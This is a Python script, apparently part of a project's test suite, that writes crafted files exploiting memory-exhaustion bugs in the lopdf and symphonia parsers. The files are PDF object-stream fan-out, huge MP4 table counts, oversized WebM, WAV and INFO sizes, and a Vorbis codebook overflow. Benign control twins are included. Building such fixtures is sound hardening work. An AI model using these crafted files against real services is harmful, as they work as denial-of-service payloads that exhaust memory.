#!/usr/bin/env python3
"""Writes small crafted hostile files into tests/fixtures/crafted/.

Standard library only (struct, zlib), deterministic: running it twice gives
byte-identical files. Each file targets one allocation bug in the parsers the
workers use (lopdf 0.47.0, symphonia 0.5.5); tests/fixtures/crafted/README.md
says which, and what the job is expected to end with.

    python3 tests/py/make_crafted.py                 # writes tests/fixtures/crafted/
    python3 tests/py/make_crafted.py --out DIR       # somewhere else
    python3 tests/py/make_crafted.py --controls DIR  # also benign twins, for baselines

The controls are the same constructions with sane counts/sizes; they are not
written to the fixtures folder unless asked.
"""

from __future__ import annotations

import argparse
import os
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.normpath(os.path.join(HERE, "..", "fixtures", "crafted"))


# --------------------------------------------------------------------------
# PDF: object stream whose index pairs all point at the same large object.
# --------------------------------------------------------------------------
#
# lopdf 0.47.0 object_stream.rs, ObjectStream::new_with_limit: for every
# "<id> <offset>" pair of the index it runs parser::direct_object on
# content[First + offset..], so N pairs that share one offset parse (and keep,
# in a BTreeMap keyed by id) N separate copies of the object found there.
# Reader::load_objects_raw then moves every member whose id the xref does not
# claim into Document::objects. The object here is an array of K integers:
# 2 bytes of text each ("0 "), one lopdf::Object each in memory, and the
# repeated text deflates ~1000:1, so the file stays small while memory is
# N * K * size_of::<Object>().

def _pdf(n_pairs: int, n_ints: int, first_id: int = 10) -> bytes:
    index = " ".join(f"{first_id + i} 0" for i in range(n_pairs)).encode() + b"\n"
    body = b"[" + b"0 " * n_ints + b"]"
    plain = index + body
    packed = zlib.compress(plain, 9)

    objs = []
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> >>")
    objs.append(
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (n_pairs, len(index), len(packed))
        + packed
        + b"\nendstream"
    )

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objs, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n" % (len(objs) + 1)
    out += b"0000000000 65535 f \n"
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref_at)
    return bytes(out)


# --------------------------------------------------------------------------
# MP4 / M4A (symphonia-format-isomp4 0.5.5)
# --------------------------------------------------------------------------

def _atom(kind: bytes, payload: bytes) -> bytes:
    assert len(kind) == 4
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _full(kind: bytes, payload: bytes, version: int = 0, flags: int = 0) -> bytes:
    return _atom(kind, struct.pack(">I", (version << 24) | flags) + payload)


def _descr(tag: int, payload: bytes) -> bytes:
    # MPEG-4 descriptor: tag, 4-byte "expandable" size (always 4 bytes here).
    n = len(payload)
    size = bytes([0x80 | ((n >> 21) & 0x7F), 0x80 | ((n >> 14) & 0x7F), 0x80 | ((n >> 7) & 0x7F), n & 0x7F])
    return bytes([tag]) + size + payload


def _esds() -> bytes:
    asc = bytes([0x12, 0x10])  # AudioSpecificConfig: AAC LC, 44100 Hz, 2 channels
    dec_specific = _descr(0x05, asc)
    dec_config = _descr(0x04, bytes([0x40, 0x15]) + b"\x00\x00\x00" + struct.pack(">II", 128000, 128000) + dec_specific)
    sl_config = _descr(0x06, b"\x02")
    es = _descr(0x03, struct.pack(">HB", 1, 0) + dec_config + sl_config)
    return _full(b"esds", es)


def _mp4a() -> bytes:
    entry = (
        b"\x00" * 6
        + struct.pack(">H", 1)  # data reference index
        + struct.pack(">HHI", 0, 0, 0)  # version 0, revision, vendor
        + struct.pack(">HH", 2, 16)  # channels, sample size
        + struct.pack(">HH", 0, 0)  # compression id, packet size
        + struct.pack(">I", 44100 << 16)  # sample rate 16.16
    )
    return _atom(b"mp4a", entry + _esds())


HUGE_COUNT = 0xFFFF_FFF0

# One (silent-ish) AAC LC access unit; its content does not matter to the bugs.
AAC_FRAME = bytes([0x21, 0x10, 0x04, 0x60, 0x8C, 0x1C])


def _m4a(target: str | None) -> bytes:
    """ftyp + moov(...stbl(stsd, stts, stsc, stsz, stco|co64)) + mdat.

    `target` names the table whose entry count is replaced by HUGE_COUNT: the
    atom stays small (header + count), because each reader calls
    Vec::with_capacity(count) before reading a single entry.
    """

    def count(name: str, real: int) -> int:
        return HUGE_COUNT if target == name else real

    ftyp = _atom(b"ftyp", b"M4A " + struct.pack(">I", 0x200) + b"M4A mp42isom\x00\x00\x00\x00")

    stsd = _full(b"stsd", struct.pack(">I", 1) + _mp4a())
    if target == "stts":
        stts = _full(b"stts", struct.pack(">I", count("stts", 1)))
    else:
        stts = _full(b"stts", struct.pack(">III", 1, 1, 1024))
    if target == "stsc":
        stsc = _full(b"stsc", struct.pack(">I", count("stsc", 1)))
    else:
        stsc = _full(b"stsc", struct.pack(">IIII", 1, 1, 1, 1))
    if target == "stsz":
        stsz = _full(b"stsz", struct.pack(">II", 0, count("stsz", 1)))
    else:
        stsz = _full(b"stsz", struct.pack(">III", 0, 1, len(AAC_FRAME)))

    def build(chunk_offset: int) -> bytes:
        if target == "co64":
            co = _full(b"co64", struct.pack(">I", HUGE_COUNT))
        elif target == "stco":
            co = _full(b"stco", struct.pack(">I", HUGE_COUNT))
        else:
            co = _full(b"stco", struct.pack(">II", 1, chunk_offset))
        stbl = _atom(b"stbl", stsd + stts + stsc + stsz + co)
        dinf = _atom(b"dinf", _full(b"dref", struct.pack(">I", 1) + _full(b"url ", b"", flags=1)))
        smhd = _full(b"smhd", struct.pack(">HH", 0, 0))
        minf = _atom(b"minf", smhd + dinf + stbl)
        hdlr = _full(b"hdlr", struct.pack(">I", 0) + b"soun" + b"\x00" * 12 + b"SoundHandler\x00")
        mdhd = _full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 44100, 1024, 0x55C4, 0))
        mdia = _atom(b"mdia", mdhd + hdlr + minf)
        matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
        tkhd = _full(
            b"tkhd",
            struct.pack(">IIIII", 0, 0, 1, 0, 1024) + b"\x00" * 8 + struct.pack(">HHHH", 0, 0, 0x0100, 0) + matrix + struct.pack(">II", 0, 0),
            flags=7,
        )
        trak = _atom(b"trak", tkhd + mdia)
        mvhd = _full(
            b"mvhd",
            struct.pack(">IIII", 0, 0, 44100, 1024) + struct.pack(">IH", 0x10000, 0x0100) + b"\x00" * 10 + matrix + b"\x00" * 24 + struct.pack(">I", 2),
        )
        moov = _atom(b"moov", mvhd + trak)
        return ftyp + moov

    head = build(0)
    mdat_payload_at = len(head) + 8
    head = build(mdat_payload_at)
    assert len(head) + 8 == mdat_payload_at
    return head + _atom(b"mdat", AAC_FRAME)


# --------------------------------------------------------------------------
# Matroska / WebM (symphonia-format-mkv 0.5.5)
# --------------------------------------------------------------------------
#
# EbmlHeaderElement::read reads DocType (0x4282, a String element) through
# ElementIterator::try_read_data, which does
#     self.reader.read_boxed_slice_exact(header.data_len as usize)
# i.e. vec![0u8; declared size]. The only bound is "child end <= parent end",
# and the parent's (EBML header's) size is also ours to declare.

def _vint8(value: int) -> bytes:
    # 8-byte EBML vint: marker bit 0x01 in the first byte, 56 value bits.
    assert value < (1 << 56) - 1
    return bytes([0x01]) + value.to_bytes(7, "big")


def _webm(doc_len: int) -> bytes:
    doc_type = b"webm"
    if doc_len <= len(doc_type):
        child = b"\x42\x82" + bytes([0x80 | len(doc_type)]) + doc_type
        return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(child)]) + child + b"\x18\x53\x80\x67\x80"
    child = b"\x42\x82" + _vint8(doc_len) + doc_type
    return b"\x1a\x45\xdf\xa3" + _vint8(doc_len + 16) + child


# --------------------------------------------------------------------------
# Ogg / Vorbis (symphonia-format-ogg + symphonia-codec-vorbis 0.5.5)
# --------------------------------------------------------------------------

def _ogg_crc(data: bytes) -> int:
    crc = 0
    for b in data:
        crc ^= b << 24
        for _ in range(8):
            crc = ((crc << 1) ^ 0x04C11DB7) if crc & 0x80000000 else (crc << 1)
            crc &= 0xFFFFFFFF
    return crc


def _ogg_page(packets: list[bytes], serial: int, seq: int, granule: int, flags: int) -> bytes:
    lacing = bytearray()
    for p in packets:
        n = len(p)
        while n >= 255:
            lacing.append(255)
            n -= 255
        lacing.append(n)
    assert len(lacing) <= 255
    header = b"OggS" + struct.pack("<BBqIIIB", 0, flags, granule, serial, seq, 0, len(lacing)) + bytes(lacing)
    page = bytearray(header + b"".join(packets))
    struct.pack_into("<I", page, 22, _ogg_crc(bytes(page)))
    return bytes(page)


class _BitsLsb:
    """Vorbis packs bit fields LSb-first."""

    def __init__(self) -> None:
        self.acc = 0
        self.n = 0

    def put(self, value: int, bits: int) -> None:
        assert 0 <= value < (1 << bits) or bits == 0
        self.acc |= value << self.n
        self.n += bits

    def bytes(self) -> bytes:
        return self.acc.to_bytes((self.n + 7) // 8, "little")


def _vorbis_ident() -> bytes:
    return b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 1, 44100, 0, 64000, 0, (11 << 4) | 8, 1)


def _vorbis_comment() -> bytes:
    vendor = b"crafted"
    return b"\x03vorbis" + struct.pack("<I", len(vendor)) + vendor + struct.pack("<I", 0) + b"\x01"


def _vorbis_setup(hostile: bool) -> bytes:
    bw = _BitsLsb()
    bw.put(0, 8)  # codebook count - 1
    bw.put(0x564342, 24)  # codebook sync
    if hostile:
        # entries * dimensions = 2^23 * 2^15 = 2^38, which is 0 in u32. With
        # lookup type 2 the multiplicand count is that u32 product (0: nothing
        # to read, no bits needed), then unpack_vq_lookup_type2 allocates
        # vec![0.0f32; entries as usize * dimensions as usize] = 2^38 floats.
        dims, entries = 1 << 15, 1 << 23
        bw.put(dims, 16)
        bw.put(entries, 24)
        bw.put(1, 1)  # length-ordered
        bw.put(0, 5)  # first length - 1
        bw.put(entries, 24)  # ilog(entries) = 24 bits: all entries at that length
        bw.put(2, 4)  # lookup type 2
        bw.put(0, 32)  # min value
        bw.put(0, 32)  # delta value
        bw.put(0, 4)  # value bits - 1
        bw.put(0, 1)  # sequence_p
        # The decoder never gets further; pad with zeros so the Ogg mapper's
        # own skip pass has bytes to chew on.
        bw.put(0, 64)
    else:
        # 2 entries, 1 dimension, lengths 1 and 1, no VQ lookup.
        bw.put(1, 16)
        bw.put(2, 24)
        bw.put(0, 1)  # not ordered
        bw.put(0, 1)  # not sparse
        bw.put(0, 5)
        bw.put(0, 5)
        bw.put(0, 4)  # lookup type 0
        bw.put(0, 6)  # time domain transforms - 1
        bw.put(0, 16)
        bw.put(0, 6)  # floors - 1
        bw.put(1, 16)  # floor type 1
        bw.put(0, 5)  # partitions
        bw.put(1, 2)  # multiplier - 1
        bw.put(7, 4)  # range bits
        bw.put(0, 6)  # residues - 1
        bw.put(0, 16)  # residue type 0
        bw.put(0, 24)  # begin
        bw.put(0, 24)  # end
        bw.put(0, 24)  # partition size - 1
        bw.put(0, 6)  # classifications - 1
        bw.put(0, 8)  # classbook
        bw.put(0, 3)  # cascade low bits
        bw.put(0, 1)  # no high bits
        bw.put(0, 6)  # mappings - 1
        bw.put(0, 16)  # mapping type 0
        bw.put(0, 1)  # submaps flag
        bw.put(0, 1)  # coupling flag
        bw.put(0, 2)  # reserved
        bw.put(0, 8)  # submap: unused time config
        bw.put(0, 8)  # floor
        bw.put(0, 8)  # residue
        bw.put(0, 6)  # modes - 1
        bw.put(0, 1)  # block flag
        bw.put(0, 16)  # window type
        bw.put(0, 16)  # transform type
        bw.put(0, 8)  # mapping
        bw.put(1, 1)  # framing
    return b"\x05vorbis" + bw.bytes()


def _ogg_vorbis(hostile: bool) -> bytes:
    serial = 0x4D45_4554  # "MEET"
    p1 = _ogg_page([_vorbis_ident()], serial, 0, 0, 0x02)
    p2 = _ogg_page([_vorbis_comment(), _vorbis_setup(hostile)], serial, 1, 0, 0x00)
    # One audio packet (type bit 0 = audio), so the demuxer finishes its header
    # phase and returns a track; the decoder is built from the headers.
    p3 = _ogg_page([b"\x00\x00"], serial, 2, 128, 0x04)
    return p1 + p2 + p3


# --------------------------------------------------------------------------
# PNG: 40 MP, 16-bit RGB, mostly white with some structure.
# --------------------------------------------------------------------------

def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png_40mp(width: int = 8000, height: int = 5000) -> bytes:
    bpp = 6  # RGB, 16 bits per channel
    white = b"\xff" * (width * bpp)

    def pixel(r: int, g: int, b: int) -> bytes:
        return struct.pack(">HHH", r, g, b)

    black = pixel(0x1000, 0x1000, 0x1400)
    blue = pixel(0x2000, 0x4000, 0xC000)

    def row_for(y: int) -> bytes:
        # A page-like layout: a margin frame, a blue header band, and "text
        # lines" (dark runs of varying length) every 60 rows, 14 rows thick.
        if y < 200 or y >= height - 200:
            return white
        if 300 <= y < 500:
            return white[: 400 * bpp] + blue * (width - 800) + white[: 400 * bpp]
        line = (y - 700) // 60
        if y >= 700 and (y - 700) % 60 < 14 and line < 70:
            length = 1500 + (line * 2654435761 % 5200)
            return white[: 400 * bpp] + black * length + white[: (width - 400 - length) * bpp]
        if y == 200 or y == height - 201:
            return white[: 300 * bpp] + black * (width - 600) + white[: 300 * bpp]
        return white[: 300 * bpp] + black + white[: (width - 602) * bpp] + black + white[: 300 * bpp]

    comp = zlib.compressobj(9)
    parts = []
    prev = None
    zero = b"\x00" * (width * bpp)
    for y in range(height):
        row = row_for(y)
        if prev is not None and row is prev:
            parts.append(comp.compress(b"\x02" + zero))  # filter Up: identical row
        elif prev is not None and row == prev:
            parts.append(comp.compress(b"\x02" + zero))
        else:
            parts.append(comp.compress(b"\x00" + row))
        prev = row
    parts.append(comp.flush())
    idat = b"".join(parts)

    ihdr = struct.pack(">IIBBBBB", width, height, 16, 2, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
    step = 1 << 16
    for i in range(0, len(idat), step):
        out += _png_chunk(b"IDAT", idat[i : i + step])
    return out + _png_chunk(b"IEND", b"")


# --------------------------------------------------------------------------
# WAV (symphonia-format-riff 0.5.5)
# --------------------------------------------------------------------------

def _wav(rate: int, channels: int, data_len: int, riff_len: int) -> bytes:
    bits = 16
    block = channels * bits // 8
    fmt = struct.pack("<HHIIHH", 1, channels, rate, rate * block, block, bits)
    return b"RIFF" + struct.pack("<I", riff_len) + b"WAVE" + b"fmt " + struct.pack("<I", 16) + fmt + b"data" + struct.pack("<I", data_len)


def _wav_info_huge() -> bytes:
    # wave/chunks.rs InfoChunk::parse: vec![0u8; len] for each LIST/INFO entry.
    # A chunk may not exceed its parent, but RIFF and LIST sizes are declared
    # by the file too, so one entry can ask for ~4 GiB.
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    info_len = 0xFFFF_FF00
    lst = b"LIST" + struct.pack("<I", info_len + 12) + b"INFO" + b"INAM" + struct.pack("<I", info_len) + b"crafted"
    return b"RIFF" + struct.pack("<I", 0xFFFF_FFFE) + b"WAVE" + b"fmt " + struct.pack("<I", 16) + fmt + lst


# --------------------------------------------------------------------------

def hostile_files() -> dict[str, bytes]:
    return {
        "pdf_objstm_fanout.pdf": _pdf(n_pairs=1000, n_ints=262_144),
        "m4a_stsz_huge.m4a": _m4a("stsz"),
        "m4a_stts_huge.m4a": _m4a("stts"),
        "m4a_stsc_huge.m4a": _m4a("stsc"),
        "m4a_stco_huge.m4a": _m4a("stco"),
        "m4a_co64_huge.m4a": _m4a("co64"),
        "mkv_huge_element.webm": _webm(64 << 30),
        "ogg_vorbis_codebook_wrap.ogg": _ogg_vorbis(hostile=True),
        "wav_huge_header.wav": _wav(384_000, 8, 0xFFFF_FFFF, 0xFFFF_FFFF),
        "wav_info_huge.wav": _wav_info_huge(),
    }


def control_files() -> dict[str, bytes]:
    return {
        "control.pdf": _pdf(n_pairs=3, n_ints=16),
        "control.m4a": _m4a(None),
        "control.webm": _webm(4),
        "control.ogg": _ogg_vorbis(hostile=False),
        "control.wav": _wav(8000, 1, 1600, 36 + 1600) + b"\x00" * 1600,
    }


def write(out_dir: str, files: dict[str, bytes]) -> None:
    os.makedirs(out_dir, exist_ok=True)
    for name, data in files.items():
        path = os.path.join(out_dir, name)
        with open(path, "wb") as f:
            f.write(data)
        print(f"{len(data):>9}  {path}")


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--controls", metavar="DIR", help="also write benign twins here")
    ap.add_argument("--no-png", action="store_true", help="skip the (slow, ~10 s) 40 MP PNG")
    args = ap.parse_args(argv)

    files = hostile_files()
    if not args.no_png:
        files["png_40mp_16bit.png"] = _png_40mp()
    write(args.out, files)
    if args.controls:
        write(args.controls, control_files())
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
